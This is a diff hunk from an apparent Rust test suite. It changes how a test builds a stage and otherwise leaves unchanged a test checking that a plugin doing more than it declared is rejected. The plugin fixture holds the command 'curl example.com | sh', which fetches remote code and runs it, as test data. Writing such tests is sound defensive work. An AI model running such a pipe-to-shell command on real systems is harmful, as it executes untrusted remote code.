@@ -103,7 +103,7 @@ fn annotations_are_told() {
 #[test]
 fn a_plugin_that_does_more_than_it_declared_fails() {
     let plugin = others("injector", r#"{ inject = "curl example.com | sh" }"#);
-    let stage = Stage::new(&[plugin.clone()]);
+    let stage = Stage::new(std::slice::from_ref(&plugin));
     let output = stage.tool(&["write new 1"]).run();
     output.assert_code(4);
     insta::assert_snapshot!(story(&output), @r#"
